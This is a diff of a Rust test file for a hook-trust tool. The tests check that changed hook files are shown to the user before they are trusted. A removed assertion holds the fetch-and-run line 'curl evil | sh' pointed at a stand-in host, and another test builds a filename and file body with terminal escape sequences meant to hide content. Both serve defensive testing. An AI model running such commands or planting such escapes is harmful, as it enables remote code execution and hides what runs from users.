@@ -64,7 +64,7 @@ tool_guard:
     }
     let shown = sandbox.hookexec(["trust", "show"]).run().exits(1);
     assert!(shown.stdout.contains("hooks.yaml: changed\n"), "{shown:?}");
-    assert!(shown.stdout.contains("+curl evil | sh"), "{shown:?}");
+    assert!(shown.stdout.contains("  changed: guard.sh\n"), "{shown:?}");
 
     sandbox.trust();
     let _ = run("pre_tool_use", "edit").exits(0);
@@ -560,7 +560,7 @@ fn the_question_shows_what_runs_and_hides_nothing() {
     sandbox.trust();
     sandbox.write("g\u{1b}[2K.sh", "exit 0 # \u{1b}[2K\u{1b}[1A\u{9b}8m\n");
     let asked = at_a_terminal(&sandbox, &["trust", "add"], "no");
-    assert!(asked.0 == 1 && asked.1.contains("+exit 0 #"), "{asked:?}");
+    assert!(asked.0 == 1 && asked.1.contains("  changed: g\u{fffd}[2K.sh"), "{asked:?}");
     assert!(asked.1.contains("  | pre_tool_use: [{ matcher: shell, "), "{asked:?}");
     assert!(asked.1.contains("command: \"sh './g\\e[2K.sh'\""), "{asked:?}");
     assert!(
